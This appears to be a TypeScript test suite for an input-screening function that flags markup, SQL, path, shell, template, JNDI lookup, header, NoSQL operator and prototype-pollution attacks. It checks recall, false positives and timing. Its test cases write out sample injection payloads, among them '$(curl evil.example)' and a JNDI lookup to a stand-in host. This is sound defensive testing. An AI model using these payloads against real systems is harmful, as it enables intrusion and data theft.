/** A signal that misses few attacks, cries at few guests, and cannot itself be kept busy. */
import { existsSync, readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { type AttackSign, attackSigns } from "./index.js";

describe("a value resembles", () => {
  it.each<[AttackSign, unknown]>([
    ["markup", "<script>alert(1)</script>"],
    ["markup", { a: [{ b: '"><img src=x onerror=alert(1)>' }] }],
    ["markup", "javascript:alert(1)"],
    ["sql", "1' OR '1'='1"],
    ["sql", "x'; DROP TABLE orders; --"],
    ["sql", "-1 UNION SELECT password FROM users"],
    ["sql", "admin'--"],
    ["sql", "1); SELECT pg_sleep(10)--"],
    ["path", "../../etc/passwd"],
    ["path", "..%2f..%2fsecret"],
    ["path", "menu.png\0.php"],
    ["shell", "; cat /etc/passwd"],
    ["shell", "$(curl evil.example)"],
    ["template", "{{7*7}}"],
    ["template", "<%= system('id') %>"],
    ["lookup", `$${"{jndi:ldap://evil.example/a}"}`],
    ["header", "x\r\nSet-Cookie: session=1"],
    ["header", "x%0d%0aLocation: https://evil.example"],
    ["operator", { password: { $ne: "" } }],
    ["prototype", JSON.parse('{"__proto__":{"admin":true}}')],
  ])("%s: %j", (sign, value) => {
    expect(attackSigns(value)).toContain(sign);
  });

  it.each([
    "x < y and y > z",
    "No onions, please; ring the bell -- twice",
    "Mrs O'Brien or Mr O'Neill",
    "Take 1 or 2",
    "We select the union of both menus",
    "Is it 50% off? #hungry",
    "a.b.c / d..e",
    "price: $5 (was ${old price",
    "\u{1f35c} sopa de pollo, \u00a1gracias!",
    { on: "monday", id: 7, list: [true, null] },
  ])("nothing: %j", (value) => {
    expect(attackSigns(value)).toEqual([]);
  });

  it("every attack it holds, each once", () => {
    expect(attackSigns(["<script>", "<svg>", "1' or '1"])).toHaveLength(2);
  });
});

describe("looking", () => {
  it("never throws and never lasts, whatever the value", () => {
    fc.assert(
      fc.property(fc.anything(), (value) => {
        expect(Array.isArray(attackSigns(value))).toBe(true);
      }),
    );
    const part = fc.constantFrom("<", "on", "'", " or ", "{{", "${", "..", "/", "%0d%0a", "\t", "union ", "a", "$(");
    const busy = fc.tuple(part, part).map((parts) => parts.join("").repeat(20_000));
    fc.assert(
      fc.property(busy, (text) => {
        const started = performance.now();
        attackSigns(text);
        expect(performance.now() - started).toBeLessThan(1_000);
      }),
      { numRuns: 60 },
    );
  });

  it("ends at values that hold themselves", () => {
    const round: Record<string, unknown> = { note: "<script>" };
    round.self = round;
    expect(attackSigns(round)).toEqual(["markup"]);
  });
});

const XSS = new URL("../../../../../../shared/vectors/xss.json", import.meta.url);

describe.skipIf(!existsSync(XSS))("public attack payloads", () => {
  it("that raise an alert are told for the most part", () => {
    const all = JSON.parse(readFileSync(XSS, "utf8")) as readonly { readonly payload: string }[];
    const alerting = all.filter(({ payload }) => /alert\s*\(/.test(payload));
    const told = alerting.filter(({ payload }) => attackSigns(payload).includes("markup"));
    expect(alerting.length).toBeGreaterThan(400);
    expect(told.length / alerting.length).toBeGreaterThan(0.85);
  });
});
